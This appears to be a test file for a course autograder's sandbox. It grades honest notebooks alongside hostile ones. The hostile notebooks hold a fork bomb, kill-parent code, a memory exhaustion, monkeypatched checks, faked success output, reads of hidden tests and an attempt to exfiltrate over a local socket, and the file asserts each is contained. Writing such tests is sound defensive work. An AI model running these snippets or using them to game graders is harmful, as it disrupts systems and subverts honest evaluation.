"""The autograder end to end: a class of honest and hostile submissions, sharding, kill-and-resume.

Every submission is a copy of the worked homework 1 (two questions, both
correct) in which one function is replaced.  Hostile code replaces
``softmax``; ``log_likelihood`` stays correct, so each attack must cost
exactly the softmax points and nothing else, and every other student must
keep the scores they earned.
"""

import csv
import json
import os
import pathlib
import pwd
import random
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from course_utils.grading import gradebook
from course_utils.grading.cli import main

ROOT = pathlib.Path(__file__).resolve().parent.parent
HOMEWORK = "hw1_softmax_likelihood"
SECRET = "hidden_softmax"          # a string that only the hidden tests contain

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox needs Linux")


def notebook_with(function, code):
    """The worked homework with the cell defining ``function`` replaced by ``code``."""
    nb = json.loads((ROOT / "solutions" / f"{HOMEWORK}.ipynb").read_text())
    cells = [c for c in nb["cells"] if c["cell_type"] == "code" and f"def {function}(" in "".join(c["source"])]
    assert len(cells) == 1
    cells[0]["source"] = code
    return json.dumps(nb)


LOOP = "def softmax(a, axis=-1):\n    while True:\n        pass\n"
ATTACKS = {
    # name: (softmax code, allowed statuses for softmax)
    "infinite_loop": (LOOP, {"timeout"}),
    "ignores_sigint": ("import signal\ndef softmax(a, axis=-1):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                       "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    while True:\n        pass\n",
                       {"timeout"}),
    "alloc_50gb": ("import numpy as np\ndef softmax(a, axis=-1):\n    x = np.ones(50 * 10**9 // 8)\n"
                   "    return x[:1]\n", {"incorrect", "error"}),
    "forks_holding_memory": ("import os, time, numpy as np\ndef softmax(a, axis=-1):\n    for _ in range(6):\n"
                             "        if os.fork() == 0:\n            x = np.ones(400 * 10**6 // 8)\n"
                             "            time.sleep(60)\n    time.sleep(60)\n", {"timeout", "error"}),
    "fork_bomb": ("import os, time\ndef softmax(a, axis=-1):\n    for _ in range(200):\n        try:\n"
                  "            os.fork()\n        except OSError:\n            pass\n    time.sleep(60)\n",
                  {"timeout", "error"}),
    "os_exit": ("import os\ndef softmax(a, axis=-1):\n    os._exit(0)\n", {"error"}),
    "sys_exit": ("import sys\ndef softmax(a, axis=-1):\n    sys.exit(0)\n", {"incorrect"}),
    "kill_parent": ("import os, signal\ndef softmax(a, axis=-1):\n    for pid in (os.getppid(), 1, -1):\n"
                    "        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n"
                    "            pass\n", {"error", "incorrect"}),
    "monkeypatch_checks": ("import builtins, numpy as np\nimport course_utils.checks as c\n"
                           "def softmax(a, axis=-1):\n    c.check_softmax = lambda fn: None\n"
                           "    builtins.AssertionError = Exception\n    return np.zeros_like(a)\n", {"incorrect"}),
    "fake_success_print": ("def softmax(a, axis=-1):\n    print('check_softmax: correct (max relative error 0)')\n"
                           "    print('All tests passed')\n    return a\n", {"incorrect"}),
    "fake_result_file": ("import json, pathlib\nOUT = {out!r}\ndef softmax(a, axis=-1):\n"
                         "    p = pathlib.Path(OUT) / 'records' / 'fake_result_file' / 'hw1_softmax_likelihood.json'\n"
                         "    p.parent.mkdir(parents=True, exist_ok=True)\n"
                         "    p.write_text(json.dumps({{'score': 100}}))\n    return a\n", {"incorrect"}),
    "read_hidden_tests": ("import pathlib\nTESTS = {tests!r}\ndef softmax(a, axis=-1):\n"
                          "    text = (pathlib.Path(TESTS) / 'hw1_softmax_likelihood.py').read_text()\n"
                          "    raise RuntimeError('LEAKED ' + text)\n", {"incorrect"}),
    "read_other_submission": ("import pathlib\nSUBS = {subs!r}\ndef softmax(a, axis=-1):\n"
                              "    text = (pathlib.Path(SUBS) / 'honest' / 'hw1_softmax_likelihood.ipynb').read_text()\n"
                              "    raise RuntimeError('LEAKED ' + text[:50])\n", {"incorrect"}),
    "network": ("import socket\nPORT = {port}\ndef softmax(a, axis=-1):\n"
                "    socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(b'exfiltrated')\n"
                "    return a\n", {"incorrect"}),
    "output_flood": ("import sys\ndef softmax(a, axis=-1):\n    for _ in range(20000):\n"
                     "        print('x' * 10000)\n        sys.stderr.write('y' * 10000)\n    return a\n",
                     {"incorrect"}),
    "setsid_daemon": ("import os, time\ndef softmax(a, axis=-1):\n    if os.fork() == 0:\n        os.setsid()\n"
                      "        if os.fork() == 0:\n            while True:\n                time.sleep(0.05)\n"
                      "        os._exit(0)\n    return a\n", {"incorrect"}),
    "renamed_function": ("import numpy as np\ndef my_softmax(a, axis=-1):\n"
                         "    e = np.exp(a - a.max(axis=axis, keepdims=True))\n"
                         "    return e / e.sum(axis=axis, keepdims=True)\n", {"error"}),
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that records whether anyone connected (nobody may)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    hits, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], hits
    stop.set()
    thread.join()
    server.close()


def build_class(tmp, port):
    subs, out, tests = tmp / "submissions", tmp / "out", ROOT / "grading"
    fmt = {"out": str(out), "tests": str(tests), "subs": str(subs), "port": port}
    students = {name: notebook_with("softmax", code.format(**fmt)) for name, (code, _) in ATTACKS.items()}
    students["honest"] = (ROOT / "solutions" / f"{HOMEWORK}.ipynb").read_text()
    students["partly"] = notebook_with("log_likelihood", "import numpy as np\nfrom course_utils import log_softmax\n"
                                       "def log_likelihood(W, X, y):\n"
                                       "    return -float(log_softmax(X @ W)[np.arange(len(y)), y].sum())\n")
    students["blank"] = (ROOT / "exercises" / f"{HOMEWORK}.ipynb").read_text()
    for name, text in students.items():
        (subs / name).mkdir(parents=True)
        (subs / name / f"{HOMEWORK}.ipynb").write_text(text)
    (subs / "malformed").mkdir()
    (subs / "malformed" / f"{HOMEWORK}.ipynb").write_text(students["honest"][: len(students["honest"]) // 2])
    (subs / "old_format").mkdir()
    (subs / "old_format" / f"{HOMEWORK}.ipynb").write_text(json.dumps({"nbformat": 3, "worksheets": []}))
    (subs / "symlink").mkdir()
    (subs / "symlink" / f"{HOMEWORK}.ipynb").symlink_to(tests / f"{HOMEWORK}.py")
    return subs, out, tests


def statuses(out, student):
    record = json.loads((out / "records" / student / f"{HOMEWORK}.json").read_text())
    return {q["function"]: q for q in record["questions"]}, record


def sandbox_processes():
    """Live processes owned by sandbox uids (61000 and up)."""
    found = []
    for proc in pathlib.Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if proc.stat().st_uid >= 61000 and "Z" not in (proc / "stat").read_text().split()[2]:
                    found.append(proc.name)
            except (OSError, IndexError):
                pass
    return found


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, listener):
    tmp = tmp_path_factory.mktemp("class")
    port, _ = listener
    subs, out, tests = build_class(tmp, port)
    code = main(["grade", str(subs), "--tests", str(tests), "--out", str(out), "--workers", "2",
                 "--wall-seconds", "2", "--memory-mb", "512"])
    assert code == 0
    return out


def test_honest_partly_and_blank_students_get_the_right_scores(graded_class):
    honest, rec = statuses(graded_class, "honest")
    assert rec["score"] == rec["max_score"] == 6.0
    assert {q["status"] for q in honest.values()} == {"correct"}
    partly, rec = statuses(graded_class, "partly")
    assert partly["softmax"]["status"] == "correct" and partly["log_likelihood"]["status"] == "incorrect"
    assert "NEGATIVE" in partly["log_likelihood"]["diagnosis"] and rec["score"] == 3.0
    blank, rec = statuses(graded_class, "blank")
    assert {q["status"] for q in blank.values()} == {"not attempted"} and rec["score"] == 0.0


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_each_attack_fails_closed_and_costs_only_its_question(graded_class, attack):
    result, record = statuses(graded_class, attack)
    assert result["softmax"]["status"] in ATTACKS[attack][1], result["softmax"]
    assert result["softmax"]["score"] == 0.0
    assert result["log_likelihood"]["status"] == "correct", "an attack on one question leaked into another"
    assert record["score"] == 3.0
    assert SECRET not in json.dumps(record), "hidden test source reached the gradebook"
    assert "LEAKED" not in json.dumps(record)


def test_attack_specific_evidence(graded_class, listener):
    _, hits = listener
    assert hits == [], "a sandbox reached the network"
    assert "no function named `softmax`" in statuses(graded_class, "renamed_function")[0]["softmax"]["diagnosis"]
    assert "time limit" in statuses(graded_class, "infinite_loop")[0]["softmax"]["diagnosis"]
    for attack in ("read_hidden_tests", "read_other_submission"):
        diagnosis = statuses(graded_class, attack)[0]["softmax"]["diagnosis"]
        assert "Permission denied" in diagnosis or "No such file" in diagnosis, diagnosis
    fake, _ = statuses(graded_class, "fake_result_file")
    assert "fake_result_file" in json.dumps(fake) or fake["softmax"]["status"] == "incorrect"
    assert sandbox_processes() == [], "a sandbox process (daemon, fork) outlived grading"


def test_unreadable_submissions_are_graded_zero_with_a_reason(graded_class):
    for student, reason in [("malformed", "not valid JSON"), ("old_format", "version must be 4"),
                            ("symlink", "cannot open the notebook")]:
        questions, record = statuses(graded_class, student)
        assert reason in record["error"] and record["score"] == 0.0
        assert {q["status"] for q in questions.values()} == {"error"}


def test_gradebook_csv_lists_everyone_and_the_protections(graded_class):
    text = (graded_class / "gradebook.csv").read_text()
    header, *rows = text.splitlines()
    assert header.startswith("# protections active for every sandbox:")
    if os.geteuid() == 0:
        for protection in ("cgroup", "network namespace", "mount namespace", "unprivileged user", "rlimits"):
            assert protection in header
    table = list(csv.DictReader(rows))
    assert len(table) == len(ATTACKS) + 6
    assert {r["student"]: r["score"] for r in table}["honest"] == "6"


def test_rerun_skips_everything_already_graded(graded_class, capsys):
    subs = graded_class.parent / "submissions"
    before = (graded_class / "gradebook.csv").read_text()
    assert main(["grade", str(subs), "--tests", str(ROOT / "grading"), "--out", str(graded_class)]) == 0
    assert f"{len(ATTACKS) + 6} already graded, 0 to grade" in capsys.readouterr().err
    assert (graded_class / "gradebook.csv").read_text() == before


def small_class(folder, n=8):
    rng = random.Random(3)
    for i in range(n):
        kind = rng.choice(["solutions", "exercises"])
        text = json.loads((ROOT / kind / f"{HOMEWORK}.ipynb").read_text())
        text["cells"][1]["source"] = f"# student {i}\n" + "".join(text["cells"][1]["source"])
        (folder / f"s{i}").mkdir(parents=True)
        (folder / f"s{i}" / f"{HOMEWORK}.ipynb").write_text(json.dumps(text))


def grade_cmd(subs, out, *extra):
    return [sys.executable, "-m", "course_utils.grading.cli", "grade", str(subs), "--tests", str(ROOT / "grading"),
            "--out", str(out), "--workers", "2", *extra]


def test_kill_at_random_moments_then_resume_gives_the_same_gradebook(tmp_path):
    """SIGKILL the whole grader (main process, workers, sandboxes) mid-run, three times, then finish."""
    n = 10
    subs = tmp_path / "subs"
    small_class(subs, n)
    subprocess.run(grade_cmd(subs, tmp_path / "reference"), check=True, stderr=subprocess.DEVNULL)
    rng = random.Random(11)
    out = tmp_path / "interrupted"
    done_before_kill = []
    for target in sorted(rng.sample(range(1, n // 2), 3)):
        proc = subprocess.Popen(grade_cmd(subs, out), stderr=subprocess.DEVNULL, start_new_session=True)
        deadline = time.monotonic() + 60
        while len(gradebook.all_records(out)) < target and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(rng.uniform(0.0, 0.01))
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        done_before_kill.append(len(gradebook.all_records(out)))
    assert any(0 < k < n for k in done_before_kill), done_before_kill   # really killed mid-run
    subprocess.run(grade_cmd(subs, out), check=True, stderr=subprocess.DEVNULL)
    assert (out / "gradebook.csv").read_text() == (tmp_path / "reference" / "gradebook.csv").read_text()
    assert gradebook.all_records(out) == gradebook.all_records(tmp_path / "reference")
    time.sleep(0.2)
    assert sandbox_processes() == []


def test_shards_merge_into_the_full_gradebook(tmp_path):
    subs = tmp_path / "subs"
    small_class(subs, n=5)
    for i in (1, 2):
        assert main(["grade", str(subs), "--tests", str(ROOT / "grading"), "--out", str(tmp_path / f"shard{i}"),
                     "--shard", f"{i}/2", "--workers", "1"]) == 0
    sizes = [len(gradebook.all_records(tmp_path / f"shard{i}")) for i in (1, 2)]
    assert sizes == [3, 2]
    assert main(["merge", "--out", str(tmp_path / "merged"), str(tmp_path / "shard1"), str(tmp_path / "shard2")]) == 0
    assert main(["grade", str(subs), "--tests", str(ROOT / "grading"), "--out", str(tmp_path / "whole"),
                 "--workers", "1"]) == 0
    assert (tmp_path / "merged" / "gradebook.csv").read_text() == (tmp_path / "whole" / "gradebook.csv").read_text()


@pytest.mark.parametrize("argv, message", [
    (["grade", "x", "--tests", "t", "--out", "o", "--shard", "3/2"], "needs 1 <= I <= N"),
    (["grade", "x", "--tests", "t", "--out", "o", "--shard", "a"], "must look like I/N"),
])
def test_bad_shard_argument(argv, message, capsys):
    with pytest.raises(SystemExit):
        main(argv)
    assert message in capsys.readouterr().err


def test_the_sandbox_runs_as_an_unprivileged_user_who_can_still_import():
    if os.geteuid() != 0:
        pytest.skip("separate users need root")
    from course_utils.grading.sandbox import Zygote

    zygote = Zygote(7)
    try:
        sandbox = zygote.spawn()
        sandbox.load("import os, math, statistics, fractions\nimport scipy.optimize\n"
                     "def who():\n    return [os.getuid(), os.getgid(), os.getgroups()]")
        uid, gid, groups = sandbox.function("who")()   # the imports above worked as that user
        sandbox.close()
    finally:
        zygote.close()
    assert uid == gid == 61007 and groups == []
    with pytest.raises(KeyError):
        pwd.getpwuid(uid)       # not an account anyone can log into


def test_a_homework_without_tests_is_recorded_as_an_error(tmp_path):
    (tmp_path / "subs" / "ann").mkdir(parents=True)
    (tmp_path / "subs" / "ann" / "hw9_unknown.ipynb").write_text(notebook_with("softmax", LOOP))
    assert main(["grade", str(tmp_path / "subs"), "--tests", str(ROOT / "grading"), "--out", str(tmp_path / "out"),
                 "--workers", "1"]) == 0
    record = json.loads((tmp_path / "out" / "records" / "ann" / "hw9_unknown.json").read_text())
    assert record["error"] == "no tests for homework 'hw9_unknown' (hw9_unknown.py missing)"
    assert record["score"] == record["max_score"] == 0.0 and record["questions"] == []
